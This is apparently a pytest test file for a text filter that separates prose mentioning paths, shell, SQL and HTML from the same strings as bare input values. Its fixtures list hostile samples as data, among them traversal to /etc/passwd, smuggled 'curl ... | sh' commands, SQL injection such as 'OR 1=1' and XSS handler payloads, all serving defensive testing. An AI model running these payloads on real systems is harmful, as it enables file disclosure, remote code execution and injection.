"""What is written about systems and markup passes at level 1; the same thing as a value of its own does not."""

from __future__ import annotations

import pytest

from tests.support.textbook import KINDS, blocks, table

PROSE = {
    "files": {
        "a look": "See /etc/passwd",
        "an explanation": "The users of the machine are in /etc/passwd, their groups in /etc/group.",
        "in brackets": "the list of users (/etc/passwd) can be read by all",
        "a link": "see ../../docs/a.md for more",
    },
    "shell": {
        "in quotes": "Install it with `curl -sSL https://x.example/i.sh | sh` or with your package manager",
        "in a sentence": "To install, run curl https://x.example/install.sh | sh",
        "told": "curl -fsSL https://x.example | sh installs it",
    },
    "sql": {
        "a table": "CREATE TABLE t (id int);",
        "a lesson": "The condition OR 1=1 is always true, so the query returns all rows.",
        "a lesson with a query": "SELECT * FROM users WHERE id = 1 returns the user with the id 1.",
        "a hint": "UNION SELECT combines two results",
    },
    "pages": {
        "a handler": "The attribute <p onclick=\u2026> is old",
        "a template": 'Use <p onclick="go()"> in the template',
        "an element": 'Write <button onclick="save()">Save</button> there',
    },
    "passwords": {
        "a word behind": "pass'--word",
        "a number behind": "Tr0ub'--4dor",
    },
    "tables": {
        "a column": "| name | id |",
        "a row": "| id | name |\n|----|------|\n| 1 | a |",
    },
}

ALONE = {
    "files": {
        "a path": "/etc/passwd",
        "steps": "../../../etc/passwd",
        "an address": "file:///etc/passwd",
        "steps behind a name": "img/../../etc/passwd",
        "a command": "x; sort /etc/passwd",
        "a call": "include('/etc/passwd')",
    },
    "shell": {
        "a script": "; curl http://x.example/a | sh",
        "a script alone": "curl http://x.example/a | sh",
        "a substitution": "x`curl http://x.example/a | sh`",
    },
    "sql": {
        "a condition": "1 OR 1=1",
        "a condition on null": "1 or 1=1 is not null",
        "a login": "root'--",
    },
    "pages": {
        "a handler": "<p onclick=go()>",
        "a handler behind a word": 'hello <img src=x onerror="go()">',
        "a proof": "hello <p onclick=alert(1)>",
        "a proof in an attribute": '"><p onclick="go()">',
    },
}

STRICT = {
    "files": {"a look": "See /etc/passwd"},
    "sql": {"a table": "CREATE TABLE t (id int);"},
    "pages": {"an element": 'Write <button onclick="save()">Save</button> there'},
}


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(PROSE))
def test_prose_passes_at_level_1(text: str, kind: str) -> None:
    """Nothing would run it where it stands."""
    assert not blocks(text, kind, 1)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(ALONE))
def test_the_same_without_a_sentence_is_refused_at_level_1(text: str, kind: str) -> None:
    """There it is what an application would take."""
    assert blocks(text, kind, 1)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(STRICT))
def test_some_of_it_is_refused_at_level_2(text: str, kind: str) -> None:
    """Who asks for strictness has no field for it."""
    assert blocks(text, kind, 2)
